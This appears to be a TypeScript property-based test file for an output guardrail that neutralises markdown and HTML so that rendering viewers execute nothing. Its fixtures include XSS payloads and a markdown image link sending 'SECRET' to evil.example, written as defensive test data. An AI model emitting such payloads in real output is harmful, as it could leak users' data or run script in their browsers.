// The threat: what one viewer takes for code, and is left as it is, another one runs.
import fc from "fast-check";
import { parse, postprocess, preprocess } from "micromark";
import { gfm } from "micromark-extension-gfm";
import { test } from "tap";
import { defuse } from "../../guardrails/output/defuse.ts";
import { codeIn } from "../../guardrails/output/markdown-code.ts";
import type { Range } from "../../guardrails/views/view.ts";
import { doneByMarkdown } from "./output-viewers.ts";

const seed = 20_261_123;

/** What CommonMark takes for code, with or without GitHub's extensions. */
function codeOf(text: string, extensions: readonly ReturnType<typeof gfm>[]): readonly Range[] {
  const document = parse({ extensions: [...extensions] }).document();
  const events = postprocess(document.write(preprocess()(text, undefined, true)));
  return events
    .filter(([step, { type }]) => step === "enter" && /^code(?:Fenced|Text|Indented)$/.test(type))
    .map(([, { start, end }]) => ({ start: start.offset, end: end.offset }));
}

/** Each sign that is shown: quotes mark each of their lines. */
function isWithin({ start, end }: Range, text: string, code: readonly Range[]): boolean {
  return [...text.slice(start, end)].every(
    (sign, offset) =>
      /[\s>]/.test(sign) ||
      code.some((range) => range.start <= start + offset && start + offset < range.end),
  );
}

const fragments = fc.constantFrom(
  ...["`", "``", "```", "````", "~~~", "\n", "\n", "\n\n", "\n\n", "\r\n", " ", "  ", "    ", "\t"],
  ...[
    "a",
    "b <c",
    "<img x=y>",
    "<div>",
    "</div>",
    "<pre>",
    "</pre>",
    "<!--",
    "-->",
    "<?",
    "<b",
    '<a title="',
  ],
  ...[
    "- ",
    "* ",
    "+ ",
    "1. ",
    "2. ",
    "> ",
    "-",
    "- - -",
    "---",
    "===",
    "# ",
    "|",
    "\n| - |\n",
    "*",
    "~",
  ],
  ...[
    "[",
    "]",
    "](",
    "]:",
    "![",
    "(",
    ")",
    "\\",
    "$",
    "$$",
    "https://a.b/",
    "www.a.b",
    "[^a]",
    "[^a]: ",
    "[a]: /u",
    "[a]:\n",
  ],
);
const texts = fc.array(fragments, { minLength: 2, maxLength: 18 }).map((parts) => parts.join(""));

test("property: what is left as code is code to every viewer", (t) => {
  let some = 0;
  fc.assert(
    fc.property(texts, (text) => {
      const code = codeIn(text);
      some += code.length;
      return [[], [gfm()]].every((extensions) => {
        const known = code.length === 0 ? [] : codeOf(text, extensions);
        return code.every((range) => isWithin(range, text, known));
      });
    }),
    { seed, numRuns: 6_000 },
  );
  t.ok(some > 200, `${some} parts`);
  t.end();
});

const attacks = fc.constantFrom(
  ...["<script>alert(1)</script>", "<img src=x onerror=y>", "[x](javascript:alert(1))"],
  "![x](https://evil.example/?q=SECRET)",
);

test("property: a viewer does nothing of what is left, wherever it stands", (t) => {
  const mixed = fc.array(fc.oneof(fragments, attacks), { minLength: 2, maxLength: 14 });
  fc.assert(
    fc.property(mixed, (parts) => doneByMarkdown(defuse(parts.join("")).text).length === 0),
    { seed, numRuns: 500 },
  );
  t.end();
});
